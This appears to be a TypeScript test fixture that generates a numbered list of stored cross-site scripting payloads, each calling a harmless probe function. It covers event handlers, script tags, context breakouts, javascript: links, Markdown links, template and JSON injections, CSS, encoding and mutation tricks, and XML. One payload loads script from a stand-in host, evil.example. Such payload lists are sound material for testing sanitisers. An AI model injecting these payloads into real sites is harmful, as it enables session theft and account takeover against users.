/** The function that every script of the list calls with its number. */
export const probe = 'ran'

type Script = (call: string) => string

/** Elements with a handler that a browser calls by itself or when something is pressed. */
const handlers: readonly Script[] = [
  ...[
    'img src=x onerror',
    'IMG SRC=x OnErRoR',
    'img/src=x/onerror',
    'img\nsrc=x\nonerror',
    'img src onerror',
    'image src=x onerror',
    'input autofocus onfocus',
    'textarea autofocus onfocus',
    'select autofocus onfocus',
    'button autofocus onfocus',
    'a href=# autofocus onfocus',
    'p tabindex=1 autofocus onfocus',
    'details open ontoggle',
    'body onload',
    'body onpageshow',
    'svg onload',
    'svg/onload',
    'video src=x onerror',
    'video><source onerror',
    'audio src=x onerror',
    'object data=x onerror',
    'embed src=x onload',
    'iframe onload',
    'link rel=stylesheet href=x onerror',
    'link rel=preload as=image href=x onerror',
    'script src=x onerror',
    'style onload',
    'marquee onstart',
    'input type=image src=x onerror',
    'div onpointerenter',
    'div onclick',
    'a onmouseover',
    'form onsubmit',
    'input oninvalid required',
    'dialog open onclose',
    'x contenteditable onbeforeinput',
    'x oncontentvisibilityautostatechange',
    'x style=transition:outline_1s tabindex=1 ontransitionend',
    'x style=animation-name:spin onanimationstart',
    'track default src=x onerror',
  ].map(
    (start): Script =>
      (call) =>
        `<${start}=${call}>`,
  ),
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror=\`${call}\`>`,
  (call) => `<img src=x onerror="&#32;${call}">`,
  (call) => `<img src="x" onerror = "\u00a0;${call}">`,
  (call) => `<img src=x:x onerror\u000c=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x>`,
  (call) => `<svg><image href=x onerror=${call}>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<button popovertarget=p${call.length}>x</button><p popover id=p${call.length} ontoggle=${call}>`,
]

const elements: readonly Script[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script src=//evil.example/${call}></script>`,
  (call) => `<script nonce=x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script>${call}`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=${call}&gt;"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<input type=submit formaction=javascript:${call}>`,
  (call) => `<portal src="javascript:${call}"></portal>`,
  (call) => `<applet code="javascript:${call}"></applet>`,
  (call) => `<xml onreadystatechange=${call}></xml>`,
  (call) => `<import implementation="javascript:${call}">`,
]

/** What leaves the element or the attribute in which a careless page would write it. */
const breakouts: readonly Script[] = [
  ...[
    '">',
    `'>`,
    '`>',
    '"/>',
    '-->',
    '--!>',
    '<!-->',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
    '</option></select>',
    '</xmp>',
    '</iframe>',
    '</p></div></main>',
    ']]>',
    '?>',
    '%>',
  ].map(
    (end): Script =>
      (call) =>
        `${end}<img src=x onerror=${call}>`,
  ),
  ...['"', "'", '`', '&quot;', '&#34;', '&#x27;', '\\"', '\u201d'].map(
    (quote): Script =>
      (call) =>
        `${quote} autofocus tabindex=1 onfocus=${call} x=${quote}`,
  ),
  (call) => `x" style="animation-name:spin" onanimationstart="${call}`,
  (call) => `x onerror=${call} src=x`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<a title="<b id='</a><img src=x onerror=${call}>'">`,
  (call) => `<title><img title="</title><img src=x onerror=${call}>">`,
]

const links: readonly Script[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    '&#x6A;avascript&#x3A;',
    'javascript://%0a',
    'vbscript:',
    'data:text/html,<script>',
    'view-source:javascript:',
    'feed:javascript:',
    'blob:javascript:',
  ].map(
    (scheme): Script =>
      (call) =>
        `<a href="${scheme}${call}">x</a>`,
  ),
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=9>x</text></a></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<map><area href="javascript:${call}" shape=default></map>`,
  ...[
    'javascript:',
    'JAVASCRIPT:',
    'java&Tab;script:',
    '&#106;avascript:',
    'data:text/html;base64,',
    'vbscript:',
  ].map(
    (scheme): Script =>
      (call) =>
        `[x](${scheme}${call})`,
  ),
  (call) => `[x](<javascript:${call}>)`,
  (call) => `![x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `[x](https://e.kz "x" onclick="${call})`,
  (call) => `[x]\n\n[x]: javascript:${call}`,
  (call) => `<javascript:${call}>`,
  (call) => `[<img src=x onerror=${call}>](https://e.kz)`,
  (call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `javascript:${call}`,
]

/** What leaves a string, a template or a row of data in which a careless page would write it. */
const data: readonly Script[] = [
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<%= ${call} %>`,
  (call) => `"});${call};({"`,
  (call) => `"]);${call};(["`,
  (call) => `\u2028${call}\u2029`,
  (call) => `*/${call}/*`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `\n0:["$","script",null,{"children":"${call}"}]\n`,
  (call) => `$L1<script>self.${call}</script>`,
  (call) => `\n</script><script>self.__next_f.push([1,"x"]);${call}</script>`,
  (call) => `{"@type":"Person","name":"</script><script>${call}</script>"}`,
  (call) => `=HYPERLINK("javascript:${call}")`,
  (call) => `@SUM(1)|<img src=x onerror=${call}>`,
  (call) => `x\r\nURL:javascript:${call}\r\nEND:VCARD`,
  (call) => `x\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`,
]

const styles: readonly Script[] = [
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<style>@import url("data:text/css,*{x:expression(${call})}");</style>`,
  (call) => `<p style="background:url(javascript:${call})">`,
  (call) => `<p style="width:expression(${call})">`,
  (call) => `<p style="-moz-binding:url(data:text/xml,${call})">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `</style><style>*{background:url("javascript:${call}")}`,
  (call) => `red;}</style><img src=x onerror=${call}>`,
]

/** Texts that a second reading, or a normal form, would make into markup. */
const spellings: readonly Script[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `%3Cimg src=x onerror=${call}%3E`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜／script＞`,
  (call) => `‹img src=x onerror=${call}›`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c`,
  (call) => `\u2066<img src=x onerror=${call}>\u2069`,
  (call) => `<\u200bimg src=x onerror=${call}>`,
  (call) => `<im\u00adg src=x onerror=${call}>`,
  (call) => `\ufeff<img src=x onerror=${call}>`,
  (call) => `<img src=x o\u0307nerror=${call}><img src=x onerror=${call}>`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `қ<img src=x onerror=${call}>ә`,
]

const xml: readonly Script[] = [
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `<?php ?><img src=x onerror=${call}>`,
  (call) => `<!DOCTYPE x [<!ENTITY y "<script>${call}</script>">]>&y;`,
  (call) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  (call) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
]

const kinds = { handlers, elements, breakouts, links, data, styles, spellings, xml }

/** Scripts of different kinds that somebody could store in a text, each with its number. */
export const storedScripts: readonly { id: number; kind: string; text: string }[] = Object.entries(kinds)
  .flatMap(([kind, list]) => list.map((script) => ({ kind, script })))
  .map(({ kind, script }, id) => ({ id, kind, text: script(`${probe}(${id})`) }))
